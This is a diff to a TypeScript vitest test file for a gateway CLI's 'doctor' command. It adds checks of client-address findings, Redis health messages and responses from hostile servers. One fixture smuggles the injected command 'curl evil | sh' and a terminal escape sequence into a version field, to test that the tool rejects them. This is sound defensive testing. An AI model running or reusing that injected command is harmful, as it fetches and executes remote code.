@@ -3,6 +3,7 @@
 import { describe, expect, it } from "vitest";
 import { type Finding, findingsOf, type Seen } from "../../src/cli/doctor/findings.ts";
 import type { ClientFacts, DoctorFacts, PlaceFacts } from "../../src/operate/doctor.ts";
+import { startOrigin } from "../support/gateway/origin-server.ts";
 import { folderWith, headgate } from "./run.ts";
 
 const SCRIPT = "0123456789abcdef0123456789abcdef01234567";
@@ -109,9 +110,18 @@ describe("finds in whose address is counted", () => {
     const trust = { header: "x-forwarded-for", trust: ["private"] };
     expect(at({ clientIp: trust, address: "192.0.2.1", forwardedFor: two })).toEqual([]);
     expect(at({ address: "127.0.0.1", forwardedFor: null }, { isHere: true })).toEqual([]);
+    expect(wrong({}, { policies: [{ name: "api", key: ["global"] }], client: { ...CLIENT, address: null } })).toEqual([
+      expect.stringMatching(/^note client: /),
+    ]);
+    // A client without the header counts by its address.
     expect(
       wrong({}, { policies: [{ name: "api", key: ["header:x-user"] }], client: { ...CLIENT, address: null } }),
-    ).toEqual([expect.stringMatching(/^note client: /)]);
+    ).toEqual([expect.stringMatching(/^problem client: /)]);
+    expect(at({ address: null, forwardedFor: null }, { isHere: true })).toEqual([
+      expect.stringMatching(/^note client: /),
+    ]);
+    // A header of its own, beside a list that the same proxies write.
+    expect(at({ clientIp: { header: "x-client" }, address: "192.0.2.1", forwardedFor: two })).toEqual([]);
   });
 });
 
@@ -137,17 +147,28 @@ describe("without the admin API", () => {
   it("reads what everybody can read", () => {
     expect(outside({ redis: { reachable: true, latencyMs: 3, breaker: "closed" } })).toEqual([NO_TOKEN]);
     const evicts = { reachable: true, latencyMs: 3, warning: "Redis forgets counts" };
-    expect(outside({ redis: evicts, notes: ["a note"] })).toEqual(["a note.", "Redis forgets counts.", NO_TOKEN]);
+    const says = "redis: Redis forgets counts.";
+    expect(outside({ redis: evicts, notes: ["a note"] })).toEqual(["a note.", says, NO_TOKEN]);
     const open = { reachable: false, error: "TIMEOUT", breaker: "open" };
-    expect(outside({ redis: open })).toHaveLength(3);
+    expect(outside({ redis: open })).toEqual([expect.stringMatching(/^redis has no answer \(TIMEOUT\)/), NO_TOKEN]);
+    const places = [
+      { name: "eu", reachable: false, error: "NETWORK" },
+      { name: "us", reachable: true, latencyMs: 3 },
+    ];
+    expect(outside({ redis: { ...open, places } })).toEqual([
+      expect.stringMatching(/^eu has no answer \(NETWORK\)/),
+      NO_TOKEN,
+    ]);
     expect(outside({ store: "memory" })).toEqual([expect.stringMatching(/^Counts are in memory/), NO_TOKEN]);
     expect(outside({}, { refused: "the gateway answered 401" })).toEqual([expect.stringMatching(/answered 401$/)]);
   });
 
   it("names the mistakes of a configuration", () => {
     const mistakes = [{ path: "POLICIES[0].key[0]", code: "ERR_POLICY_KEY" }];
-    const [first] = outside({ status: "misconfigured", store: undefined, mistakes });
-    expect(first).toBe("POLICIES[0].key[0] has a mistake (ERR_POLICY_KEY): the gateway serves nothing.");
+    // Nothing else can be asked.
+    expect(outside({ status: "misconfigured", store: undefined, mistakes })).toEqual([
+      "POLICIES[0].key[0] has a mistake (ERR_POLICY_KEY): the gateway serves nothing.",
+    ]);
   });
 });
 
@@ -166,4 +187,36 @@ it("ends with 1 where there is no gateway, with 0 where there is only a configur
   expect(configured).toMatchObject({ status: 0, stderr: "" });
   expect(configured.stdout).toContain("note     store: The store (durable-object) can't be asked from here.");
   expect(await headgate(folder, ["doctor", "https://a:b@gate.example"])).toMatchObject({ status: 2, stdout: "" });
+});
+
+describe("asks another program", () => {
+  const answering = (health: object, doctor: object) => async () => {
+    const { url } = await startOrigin((request, response) => {
+      response.end(JSON.stringify(request.url!.endsWith("/health") ? health : doctor));
+    });
+    return url;
+  };
+  const withoutEnd = async () => {
+    const { url } = await startOrigin((_request, response) => {
+      const go = () => {
+        while (response.write(" ".repeat(100_000)));
+      };
+      response.on("drain", go);
+      go();
+    });
+    return url;
+  };
+  const forged = { ...HEALTH, version: "1.0.0; curl evil | sh \u001b[2J" };
+
+  it.each<[string, () => Promise<string>, RegExp, RegExp]>([
+    ["without a version", answering({ status: "ok" }, {}), /^$/, /without a version\. Is it a gateway\?/],
+    ["whose version is a command", answering(forged, {}), /^$/, /without a version/],
+    ["that never ends", withoutEnd, /^$/, /without a version/],
+    ["with other facts", answering(HEALTH, { places: [null] }), /^problem {2}access: .*another form\n/m, /^$/],
+  ])("%s", async (_title, start, stdout, stderr) => {
+    const ran = await headgate("/", ["doctor", await start()], { HEADGATE_TOKEN: "token" });
+    expect(ran.status).toBe(1);
+    expect(ran.stdout).toMatch(stdout);
+    expect(ran.stderr).toMatch(stderr);
+  });
 });
